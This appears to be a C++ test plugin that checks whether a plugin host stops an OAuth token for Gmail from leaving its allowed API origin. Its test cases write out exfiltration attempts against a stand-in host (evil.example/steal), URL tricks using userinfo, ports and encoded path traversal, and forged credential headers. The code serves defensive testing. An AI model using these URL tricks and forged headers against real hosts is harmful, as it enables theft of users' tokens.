// A test plugin that tries to send its provider's token where it must not go
// (issue #11): route GET /<provider>/try?case=... asks the host for one
// upstream request per case. Provider "egress" (or "egress-bare", built
// without api_origins) uses Google's OAuth server, the sandbox in tests; its
// only API origin is https://gmail.googleapis.com.
#include <lagentry/plugin.hpp>

#include <boost/json.hpp>

#ifndef EGRESS_ID
#define EGRESS_ID "egress"
#define EGRESS_ORIGINS R"("api_origins": ["https://gmail.googleapis.com"],)"
#endif

namespace {
namespace json = boost::json;

constexpr const char* kManifest = R"({
  "id": ")" EGRESS_ID R"(", "version": "1.0.0",
  "providers": [{"name": ")" EGRESS_ID R"(", )" EGRESS_ORIGINS R"( "oauth": {
    "authorization_url": "https://accounts.google.com/o/oauth2/v2/auth",
    "token_url": "https://oauth2.googleapis.com/token",
    "scopes": ["https://www.googleapis.com/auth/gmail.readonly"],
    "authorization_params": {"access_type": "offline"},
    "env_prefix": "GOOGLE"}}],
  "operations": ["egress.try"],
  "routes": [{"method": "GET", "path": "/)" EGRESS_ID R"(/try", "operation": "egress.try", "provider": ")" EGRESS_ID R"("}]
})";

constexpr std::string_view kLabels = "https://gmail.googleapis.com/gmail/v1/users/me/labels";

// The request each case asks for.
json::object request_for(std::string_view which) {
  json::object r{{"method", "GET"}, {"url", kLabels}};
  if (which == "ok") return r;
  if (which == "http") r["url"] = "http://gmail.googleapis.com/gmail/v1/users/me/labels";
  if (which == "foreign") r["url"] = "https://evil.example/steal";
  if (which == "foreign_port") r["url"] = "https://gmail.googleapis.com:8443/gmail/v1/users/me/labels";
  if (which == "userinfo") r["url"] = "https://gmail.googleapis.com@evil.example/steal";
  if (which == "dots") r["url"] = "https://gmail.googleapis.com/gmail/../../evil.example/steal";
  if (which == "encoded_dots") r["url"] = "https://gmail.googleapis.com/gmail/%2e%2e/%2E%2E/evil.example/steal";
  if (which == "dot_slash") r["url"] = "https://gmail.googleapis.com/./../../evil.example/steal";
  if (which == "encoded_slash") r["url"] = "https://gmail.googleapis.com/gmail%2F..%2F..%2Fevil.example/steal";
  if (which == "user_auth_foreign") {
    r["url"] = "https://evil.example/steal";
    r["auth"] = "user";
  }
  if (which == "bogus_auth") r["auth"] = "everything";
  // Credentials set by the plugin itself, in any case: the host drops them
  // (the token it injects is the only one that goes out).
  if (which == "lower_authorization")
    r["headers"] = json::object{{"authorization", "Bearer plugin-forged"}, {"COOKIE", "session=plugin"},
                                {"proxy-authorization", "Basic cGx1Z2lu"}};
  // No credential asked for: any origin may be called, but still without
  // plugin-set credential headers.
  if (which == "none_foreign") {
    r["url"] = "https://evil.example/public";
    r["auth"] = "none";
    r["headers"] = json::object{{"authorization", "Bearer plugin-forged"}, {"Cookie", "session=plugin"}, {"X-Plugin", "kept"}};
  }
  return r;
}

lagentry::Step handle(const lagentry::Call& call) {
  if (call.operation != "egress.try") throw lagentry::UnknownOperation(call.operation);
  const json::value input = json::parse(call.input);
  const auto* which = input.at("params").as_object().if_contains("case");
  if (!which || !which->is_string()) throw lagentry::BadInput("case is required");
  if (call.first_step())
    return lagentry::Step::fetch(json::serialize(json::object{{"requests", json::array{request_for(which->get_string())}}}), "");
  const json::value responses = json::parse(call.responses);
  const auto& response = responses.at(0).as_object();
  return lagentry::Step::reply(json::serialize(
      json::object{{"status", 200}, {"body", {{"upstream_status", response.at("status")}, {"upstream_body", response.at("body")}}}}));
}
}  // namespace

LAGENTRY_DEFINE_PLUGIN({.id = EGRESS_ID, .version = "1.0.0", .manifest = kManifest, .handle = handle})
